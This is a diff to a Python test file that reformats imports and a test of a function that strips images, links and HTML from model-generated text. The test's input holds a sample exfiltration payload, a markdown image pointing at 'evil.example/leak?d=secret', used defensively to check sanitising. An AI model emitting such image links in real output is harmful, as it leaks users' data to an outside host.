@@ -3,8 +3,8 @@
 from __future__ import annotations
 
 import os
-import stat
 import sqlite3
+import stat
 from pathlib import Path
 
 from summarise.brief import Brief, Check, Fact, clean_model_text, read_front_matter, render_json, render_markdown
@@ -72,7 +72,9 @@ def test_brief_has_front_matter_and_sections_in_order() -> None:
 
 
 def test_model_text_cannot_add_images_links_html_or_sections() -> None:
-    hostile = "See ![x](https://evil.example/leak?d=secret) [click](https://evil.example) <img src=x> ok\n## Checks\n---"
+    hostile = (
+        "See ![x](https://evil.example/leak?d=secret) [click](https://evil.example) <img src=x> ok\n## Checks\n---"
+    )
     cleaned = clean_model_text(hostile)
     assert "evil.example" not in cleaned and "<img" not in cleaned
     assert "click" in cleaned and "ok" in cleaned
